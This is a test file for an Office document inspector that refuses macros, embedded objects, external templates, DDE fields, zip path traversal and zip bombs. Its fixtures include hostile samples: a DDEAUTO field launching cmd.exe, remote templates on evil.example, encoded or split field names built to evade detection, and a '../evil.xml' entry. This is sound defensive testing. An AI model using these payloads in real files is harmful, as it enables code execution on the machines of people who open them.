import { describe, expect, it } from 'vitest';
import { xlsxFile } from '../../../../lib/spreadsheet/xlsx-file.ts';
import { sourceOfBuffer } from '../../../../lib/untrusted/read-zip.ts';
import {
  contentTypes,
  officeDocument,
  samples,
  type ZipEntries,
  zip,
} from '../../../../testing/files/sample-files.ts';
import { inspectOfficeDocument } from './office-document.ts';

const megabyte = 1_048_576;
const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const inspect = (bytes: Buffer) => inspectOfficeDocument(sourceOfBuffer(bytes));

const docx = (more: Record<string, string | Buffer>) =>
  zip({
    '[Content_Types].xml': contentTypes('word/document.xml', word),
    'word/document.xml': '<w:document/>',
    ...more,
  });
const typed = (contentType: string, more: Record<string, string | Buffer> = {}) =>
  docx({
    '[Content_Types].xml': contentTypes('word/document.xml', word).replace(
      '</Types>',
      `<Override PartName="/word/other.bin" ContentType="${contentType}"/></Types>`,
    ),
    'word/other.bin': 'x',
    ...more,
  });
const related = (attributes: string, part = 'word/_rels/document.xml.rels') =>
  docx({
    [part]: `<?xml version="1.0"?><Relationships><Relationship Id="r1" ${attributes}/></Relationships>`,
  });
const written = (text: string) => docx({ 'word/document.xml': `<w:document>${text}</w:document>` });
const field = (...runs: readonly string[]) =>
  written(
    `<w:fldChar w:fldCharType="begin"/>${runs.map((run) => `<w:r><w:instrText xml:space="preserve">${run}</w:instrText></w:r>`).join('')}<w:fldChar w:fldCharType="separate"/><w:t>1</w:t><w:fldChar w:fldCharType="end"/>`,
  );

const macros = 'макросы';
const objects = 'внедрённые объекты';
const outside = 'обращения к внешним файлам';
const fields = 'поля, которые запускают другие программы';
const scripts = 'сценарии';
const programs = 'запуск других программ';
const oldOffice = Buffer.from('d0cf11e0a1b11ae1', 'hex');

describe('a document that acts when it is opened is refused:', () => {
  it.each<[string, Buffer, string]>([
    [
      'macros, as it says itself',
      zip({
        '[Content_Types].xml': contentTypes(
          'word/document.xml',
          'application/vnd.ms-word.document.macroEnabled.main+xml',
        ),
        'word/document.xml': '',
      }),
      macros,
    ],
    ['macros under an innocent type', docx({ 'word/vbaProject.bin': 'x' }), macros],
    ['macros under an innocent name', typed('application/vnd.ms-office.vbaProject'), macros],
    ['macros by a spelled out type', typed('application/vnd.ms-office.vba&#80;roject'), macros],
    ['macros that nothing names', docx({ 'word/media/image1.png': oldOffice }), objects],
    [
      'macros by their relationship',
      related('Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="a.png"'),
      macros,
    ],
    ['sheets of macros', docx({ 'xl/macrosheets/sheet1.xml': '<x/>' }), macros],
    ['sheets of macros by their type', typed('application/vnd.ms-excel.macrosheet+xml'), macros],
    [
      'a template elsewhere',
      related(
        `Type="${office}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"`,
        'word/_rels/settings.xml.rels',
      ),
      outside,
    ],
    [
      'a template on a share',
      related(
        `Type="${office}/attachedTemplate" Target="file://///evil.example/a.dotm" TargetMode="External"`,
      ),
      outside,
    ],
    [
      'a frame elsewhere, spelled out',
      related(`Type='${office}/frame' Target='http://evil.example/' TargetMode='&#69;xternal'`),
      outside,
    ],
    [
      'a picture elsewhere, behind a sign that ends tags',
      related(`Target=">" TargetMode="External" Type="${office}/image"`),
      outside,
    ],
    ['an object', docx({ 'word/embeddings/oleObject1.bin': oldOffice }), objects],
    ['an object by its relationship', related(`Type="${office}/oleObject" Target="a.bin"`), objects],
    ['a control', typed('application/vnd.ms-office.activeX+xml'), objects],
    ['a page within', related(`Type="${office}/aFChunk" Target="afchunk.mht"`), objects],
    [
      'an extension',
      related(
        'Type="http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes" Target="a.xml"',
      ),
      scripts,
    ],
    ['an archive within', docx({ 'word/embeddings/a.zip': zip({ 'a.exe': 'MZ' }) }), objects],
    [
      'a document within that has macros',
      docx({ 'word/embeddings/a.xlsx': docx({ 'xl/vbaProject.bin': 'x' }) }),
      macros,
    ],
    ['a field', field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '), fields],
    ['a field in runs', field('D', 'DE', 'AUTO c:\\\\x'), fields],
    ['a field in numbers', field('&#68;&#x44;E c:\\\\x'), fields],
    ['a field that writes another', field(' QUOTE 68 68 69 '), fields],
    ['a field of another program', field(' LINK Excel.Sheet.8 "\\\\\\\\evil\\\\a.xls" '), fields],
    ['a simple field', written('<w:fldSimple w:instr=" DDE excel \'a\' "/>'), fields],
    ['a field without an end', written('<w:instrText>DDE a b</w:instrText>'), fields],
    [
      'a field across two pieces',
      written(`${'<w:t>x</w:t>'.repeat(5455)}<w:fldSimple w:instr="DDE a b"/>${'<w:t>x</w:t>'.repeat(9000)}`),
      fields,
    ],
    [
      'a table of another program',
      docx({ 'xl/externalLinks/externalLink1.xml': '<x:externalLink><x:ddeLink ddeService="cmd"/>' }),
      outside,
    ],
    [
      'a button that starts a program',
      docx({ 'ppt/slides/slide1.xml': '<p:sld><a:hlinkClick r:id="" action="ppaction://program"/></p:sld>' }),
      programs,
    ],
    [
      'a query',
      typed('application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml'),
      outside,
    ],
  ])('%s', async (_, bytes, what) => {
    const refusal = await inspect(bytes).catch((error: unknown) => error);
    expect(refusal).toMatchObject({
      code: 'fileHasActiveContent',
      details: { params: { what: { ru: what } } },
    });
  });
});

describe('a document that can be read in two ways is refused:', () => {
  const entries: ZipEntries = [
    ['[Content_Types].xml', contentTypes('word/document.xml', word)],
    ['word/document.xml', '<w:document/>'],
  ];
  const plain = zip(entries);
  const altered = (change: (bytes: Buffer) => void) => {
    const bytes = Buffer.from(plain);
    change(bytes);
    return bytes;
  };
  const directoryAt = plain.readUInt32LE(plain.length - 6);

  it.each<[string, Buffer, string]>([
    ['two parts of one name', zip([...entries, ['word/document.xml', '<other/>']]), 'fileTypeRefused'],
    [
      'two parts of one name in other letters',
      zip([...entries, ['WORD/Document.xml', '<other/>']]),
      'fileTypeRefused',
    ],
    ['a way out', zip([...entries, ['../evil.xml', '']]), 'fileTypeRefused'],
    ['a Windows path', zip([...entries, ['word\\evil.xml', '']]), 'fileTypeRefused'],
    [
      'another name in front of the part than in the directory',
      altered((bytes) => bytes.write('w0rd', bytes.indexOf('word/document.xml'), 'latin1')),
      'fileTypeRefused',
    ],
    [
      'other sizes in front of the part',
      altered((bytes) => bytes.writeUInt32LE(bytes.readUInt32LE(22) + 1, 22)),
      'fileTypeRefused',
    ],
    [
      'something between its parts',
      Buffer.concat([
        plain.subarray(0, directoryAt),
        Buffer.from('hidden'),
        altered((bytes) => bytes.writeUInt32LE(directoryAt + 6, bytes.length - 6)).subarray(directoryAt),
      ]),
      'fileTypeRefused',
    ],
    [
      'a part that is encrypted',
      altered((bytes) => {
        bytes.writeUInt16LE(1, 6);
        bytes.writeUInt16LE(1, directoryAt + 8);
      }),
      'fileTypeRefused',
    ],
    [
      'another checksum than announced',
      altered((bytes) => {
        bytes.writeUInt32LE(1, 14);
        bytes.writeUInt32LE(1, directoryAt + 16);
      }),
      'fileDamaged',
    ],
    [
      'a list of types in another encoding',
      docx({ '[Content_Types].xml': Buffer.from(contentTypes('word/document.xml', word), 'utf16le') }),
      'fileDamaged',
    ],
    [
      'relationships with words of their own',
      docx({ '_rels/.rels': '<!DOCTYPE x [<!ENTITY e "External">]><Relationships/>' }),
      'fileDamaged',
    ],
    [
      'relationships in another encoding',
      docx({ '_rels/.rels': '<?xml version="1.0" encoding="utf-7"?><Relationships/>' }),
      'fileDamaged',
    ],
    ['a comment within a field', field('D<!-- -->DE'), 'fileDamaged'],
  ])('%s', async (_, bytes, code) => {
    await expect(inspect(bytes)).rejects.toMatchObject({ code });
  });
});

describe('a bomb', () => {
  const bomb = Buffer.alloc(60 * megabyte, ' ');

  it('is refused by what it announces, and by what it brings where it announces less', async () => {
    await expect(inspect(docx({ 'a.bin': bomb, 'b.bin': bomb }))).rejects.toMatchObject({
      code: 'fileUnpacksTooLarge',
    });
    await expect(inspect(docx({ '[Content_Types].xml': bomb }))).rejects.toMatchObject({
      code: 'fileUnpacksTooLarge',
    });
    const lying = docx({ 'a.bin': bomb });
    const size = Buffer.alloc(4);
    size.writeUInt32LE(bomb.length);
    for (let at = lying.indexOf(size); at !== -1; at = lying.indexOf(size, at)) lying.writeUInt32LE(1000, at);
    await expect(inspect(lying)).rejects.toMatchObject({ code: 'fileDamaged' });
  });

  it('is counted together with what is packed in what it packs', async () => {
    const inner = officeDocument('xl/workbook.xml', 'spreadsheetml.sheet.main+xml', {
      'a.bin': String(bomb),
    });
    await expect(
      inspect(docx({ 'word/embeddings/1.xlsx': inner, 'word/embeddings/2.xlsx': inner })),
    ).rejects.toMatchObject({ code: 'fileUnpacksTooLarge' });
    const nest = [1, 2, 3].reduce((document) => docx({ 'word/embeddings/a.docx': document }), samples.docx);
    await expect(inspect(nest)).rejects.toMatchObject({ code: 'fileHasActiveContent' });
  });
});

describe('a document is taken', () => {
  it.each(['docx', 'xlsx', 'pptx'] as const)('as the smallest %s', async (type) => {
    expect(await inspect(samples[type])).toBe(type);
  });

  it.each<[string, Buffer]>([
    [
      'with links that somebody has to follow',
      related(`Type="${office}/hyperlink" Target="https://example.org" TargetMode="External"`),
    ],
    [
      'with the place of its template on the disk of its author',
      related(
        `Type="${office}/attachedTemplate" Target="file:///C:\\Templates\\diploma.dotx" TargetMode="External"`,
      ),
    ],
    ['with the table behind a chart', docx({ 'word/embeddings/sheet.xlsx': samples.xlsx })],
    ['with numbered pages and contents', field(' PAGE ', '\\* MERGEFORMAT ')],
    ['with words about such fields', written('<w:t>DDE and DDEAUTO are fields</w:t>')],
    ['with an empty part', docx({ 'word/empty.xml': '' })],
  ])('%s', async (_, bytes) => {
    expect(await inspect(bytes)).toBe('docx');
  });

  it('as this portal writes it, sizes behind the content', async () => {
    const rows = (async function* () {
      yield ['1'];
    })();
    const chunks: Buffer[] = [];
    for await (const chunk of xlsxFile({ name: 'a', header: ['a'], rows })) chunks.push(chunk);
    expect(await inspect(Buffer.concat(chunks))).toBe('xlsx');
  });
});
